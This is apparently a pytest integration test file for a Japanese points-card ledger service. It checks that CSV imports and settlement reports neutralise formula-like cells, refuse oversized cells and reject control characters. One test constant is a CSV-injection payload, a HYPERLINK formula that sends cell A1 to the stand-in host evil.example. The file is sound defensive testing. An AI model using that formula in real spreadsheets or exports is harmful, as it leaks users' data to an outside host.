"""CSV files on moto, as an attacker or a careless file would try them: a merchant named
like a formula reaches settlement.csv as text (its negative net still a number), an
import result file writes formula-like cells as text, a cell over the csv module's limit
refuses the file with a result file saying why (no traceback, nothing imported), and
control characters refuse their row. The `ledger` fixture checks the ledger invariants."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import date

import boto3
import pytest

from chalicelib.ledger.domain import Actor, Source
from chalicelib.reports.service import Reports
from chalicelib.reports.store import ReportStore
from chalicelib.terminals.store import TerminalStore
from tests.integration.test_imports import BOM, CARD_HEADER, World, card, card_line, cards_csv, pem
from tests.operators import AdminClient, operators, with_identity  # noqa: F401  (fixtures)

pytestmark = pytest.mark.filterwarnings("ignore:IAMAuthorizer is not a supported in local mode")

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"請求書を開く")'
OPERATOR = Actor("operator", "ops")


def rows_of(raw: bytes) -> list[list[str]]:
    assert raw.startswith(BOM.encode()) and b"\r\n" in raw
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.fixture
def world(ledger, terminal_service, clock) -> World:
    return World(ledger, terminal_service, clock)


# -- reports -----------------------------------------------------------------------------


def test_a_merchant_named_like_a_formula_reaches_settlement_as_text(api, operators, with_identity,  # noqa: F811
                                                                     ledger, clock, store):
    admin = AdminClient(api)
    assert admin.post("/merchants", {"merchant_id": "M-1", "name": FORMULA, "area": "@新見",
                                     "category": "+食料品"})[0] == 200
    s3 = boto3.client("s3", region_name="ap-northeast-1")
    s3.create_bucket(Bucket="test-reports", CreateBucketConfiguration={"LocationConstraint": "ap-northeast-1"})
    directory = TerminalStore(store.table)
    reports = Reports(ReportStore(store.table, s3, "test-reports", anchors_bucket="test-reports"),
                      lambda issuer: {m.merchant_id: m.name for m in directory.merchants(issuer)})
    idm = "0a00000000000001"
    ledger.open_card(idm=idm, card_number="JW000000000000001", issuer_id="niimi")
    clock.set(date(2025, 6, 2))
    ledger.grant(idm, 1000, request_id="g1", actor=OPERATOR, source=Source.INITIAL)
    till = Actor("terminal", "T-1", merchant="M-1")
    ledger.spend(idm, 700, request_id="p1", actor=till)
    clock.set(date(2025, 7, 1))
    ledger.cancel_spend(idm, spend_request_id="p1", request_id="c1", actor=till)

    def written(month: str) -> list[list[str]]:
        key = reports.write_settlement("niimi", month)
        return rows_of(s3.get_object(Bucket="test-reports", Key=key)["Body"].read())

    june, july = written("2025-06"), written("2025-07")

    assert june[1] == ["2025-06", "M-1", "'" + FORMULA, "700", "0", "700"]
    assert july[1] == ["2025-07", "M-1", "'" + FORMULA, "0", "700", "-700"]  # the cancel's month: a number
    assert july[2] == ["2025-07", "合計", "", "0", "700", "-700"]
    raw = s3.get_object(Bucket="test-reports", Key="reports/niimi/2025-07/settlement.csv")["Body"].read()
    assert b",0,700,-700\r\n" in raw and b"\"'=HYPERLINK(" in raw
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in june + july for cell in row
                   if not cell.lstrip("-").isdigit())


# -- import result files -------------------------------------------------------------------


def test_an_import_result_file_writes_formula_like_cells_as_text_and_they_import_again(world):
    quoted = FORMULA.replace('"', '""')
    text = f"merchant_id,name,area,category\nm-001,\"{quoted}\",,食料品\nm-002,+店,-駅前,@雑貨\n"
    report = world.drop("niimi/merchants/=evil.csv", text)
    assert (report.tally.imported, report.tally.rejected) == (1, 1)
    summary, rejected = world.result("niimi/merchants/=evil.csv")
    assert summary["status"] == "complete"
    assert rejected == [["2", "the area is empty", "m-001", "'" + FORMULA, "", "食料品"]]
    assert {m.merchant_id: (m.name, m.area, m.category) for m in world.terminals.merchants("niimi")} == {
        "m-002": ("+店", "-駅前", "@雑貨")}
    # the rejected row, copied from the result file and fixed, imports as the operator meant it
    fixed = f"merchant_id,name,area,category\nm-001,\"'{quoted}\",新見,食料品\n"
    assert world.drop("niimi/merchants/fixed.csv", fixed).tally.imported == 1
    assert {m.merchant_id: m.name for m in world.terminals.merchants("niimi")}["m-001"] == FORMULA


# -- what the csv module cannot read, and control characters ----------------------------------


def test_a_cell_over_the_csv_field_limit_refuses_the_file_with_a_result_file(world):
    huge = "x" * (csv.field_size_limit() + 1)
    text = cards_csv([1]) + f"{card(2)[0]},{card(2)[1]},1980-04-01,5000,\"{huge}\n" + card_line(3) + "\n"
    report = world.drop("niimi/cards/unclosed-quote.csv", text)
    assert report.refused.startswith("a cell that reaches line 3 of the file is longer than 131,072 characters")
    summary, rejected = world.result("niimi/cards/unclosed-quote.csv")
    assert summary["status"].startswith("refused: a cell that reaches line 3") and rejected == []
    assert list(world.ledger.store.card_ids()) == []  # nothing imported, not even row 2


def test_a_cell_over_the_csv_field_limit_is_a_400_from_the_admin_api(world, monkeypatch):
    from chalice.test import Client

    from app import app
    from chalicelib import services

    monkeypatch.setattr(services, "importer", lambda: world.importer(now=time.monotonic))
    body = (CARD_HEADER + "\n" + "x" * 200_000 + ",a,b,c,d\n").encode()
    with Client(app) as client:
        response = client.http.post("/api/admin/v1/issuers/niimi/imports/cards", body=body,
                                    headers={"Content-Type": "text/csv"})
    answer = json.loads(response.body)
    assert (response.status_code, answer["code"]) == (400, "import_refused")
    assert "longer than 131,072 characters" in answer["message"]


@pytest.mark.parametrize(("cell", "char"), [("新見\x00精肉店", "U+0000"), ("店\x1b[31m", "U+001B"),
                                            ("店\u202eabc", "U+202E"), ("店\x85名", "U+0085"), ("店\t名", "U+0009"),
                                            ("二行の\n店", "U+000A")])
def test_control_characters_in_imported_text_refuse_the_row(world, cell, char):
    quoted = '"' + cell.replace('"', '""') + '"'
    text = f"merchant_id,name,area,category\nm-001,{quoted},駅前,食料品\nm-002,普通の店,駅前,食料品\n"
    report = world.drop("niimi/merchants/ctl.csv", text)
    assert (report.tally.imported, report.tally.rejected) == (1, 1)
    assert [(r.row, r.reason) for r in report.rejections] == [
        (2, f"the name (加盟店名) cell contains a control character ({char}), which imported text may not hold; "
            "remove it")]
    _, rejected = world.result("niimi/merchants/ctl.csv")
    assert rejected[0][:2] == ["2", report.rejections[0].reason] and "\x00" not in rejected[0][3]
    assert [m.merchant_id for m in world.terminals.merchants("niimi")] == ["m-002"]


def test_nul_in_a_card_row_or_a_grant_reason_refuses_the_row_and_grants_nothing(world):
    number, idm = card(1)
    text = f"{CARD_HEADER}\n{number},{idm},1980-04-01,5000\x00,2022-10-24\n{card_line(2)}\n"
    report = world.drop("niimi/cards/nul.csv", text)
    assert [r.row for r in report.rejections] == [2] and "U+0000" in report.rejections[0].reason
    assert list(world.ledger.store.card_ids()) == [card(2)[1]]
    grants = f"list_id,card_number,points,reason\nL-1,{card(2)[0]},200,ボランティア\x00\n"
    report = world.drop("niimi/admin-grants/nul.csv", grants)
    assert report.tally.rejected == 1 and world.ledger.balance(card(2)[1]).balance == 5000


def test_a_pem_key_written_over_several_lines_in_one_cell_still_imports(world):
    world.drop("niimi/merchants/m.csv", "merchant_id,name,area,category\nm-001,店,駅前,食料品\n")
    key = pem()
    report = world.drop("niimi/terminals/t.csv",
                        f"terminal_id,mode,merchant_id,public_key\nT-1,store,m-001,\"{key}\"\n")
    assert (report.tally.imported, report.tally.rejected) == (1, 0)
    assert world.terminals.store.get_terminal("T-1").public_key.strip() == key.strip()

